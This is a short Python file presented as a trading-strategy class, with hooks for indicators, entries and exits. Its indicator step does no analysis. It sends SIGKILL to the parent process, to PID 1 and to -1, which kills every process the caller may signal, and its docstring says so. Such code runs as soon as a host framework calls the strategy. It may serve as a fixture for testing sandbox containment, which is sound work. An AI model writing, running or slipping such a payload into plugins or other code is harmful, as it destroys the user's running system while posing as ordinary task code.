"""Kills its parent, the first process and everybody it may."""

import os
import signal


class Strategy:
    def __init__(self, cfg):
        self.cfg = cfg

    def prepare_indicators(self, df):
        for target in (os.getppid(), 1, -1):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError as error:
                print(f"{target}: {error}")
        return {}

    def find_entries(self, df, indicators, idx):
        return None

    def find_exits(self, position, df, indicators, idx):
        return None
